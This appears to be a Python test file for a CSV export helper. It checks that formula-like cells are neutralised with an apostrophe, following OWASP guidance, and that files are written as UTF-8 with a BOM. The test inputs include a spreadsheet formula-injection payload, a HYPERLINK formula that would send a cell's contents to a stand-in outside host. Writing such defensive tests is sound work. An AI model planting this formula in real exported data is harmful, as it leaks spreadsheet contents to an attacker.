"""The one rule of every CSV IMS writes: formulas neutralised (OWASP), numbers kept, UTF-8 with BOM."""
import csv
import io

from ims_common.csv_cells import BOM, csv_text, safe_cell


def test_cells_a_spreadsheet_would_run_get_an_apostrophe():
    for raw in ('=HYPERLINK("http://x.example/?q="&A1,"Cliquez")', "=1+1", "+1", "-1+2", "@SUM(A1)",
                "\tcmd", "\r=1", "-", "+"):
        assert safe_cell(raw) == "'" + raw
    for raw in ("Gaston Taxes inc.", "F-102938", "82.00", "-12.50", "-73.567800", "0", "", "Émilie Côté"):
        assert safe_cell(raw) == raw
    assert safe_cell(None) == "" and safe_cell(-5) == "-5"


def test_a_file_is_utf8_with_bom_and_reads_back():
    text = csv_text(["legal_name", "supplier_number", "total"],
                    [['=HYPERLINK("http://x")', "+1", "-20.50"], ["Hélène Lévesque", "F-1", "82.00"]])
    assert text.startswith(BOM) and text.encode("utf-8").startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(text.encode("utf-8").decode("utf-8-sig"))))
    assert rows == [["legal_name", "supplier_number", "total"],
                    ["'=HYPERLINK(\"http://x\")", "'+1", "-20.50"], ["Hélène Lévesque", "F-1", "82.00"]]
    assert text.count("\r\n") == 3
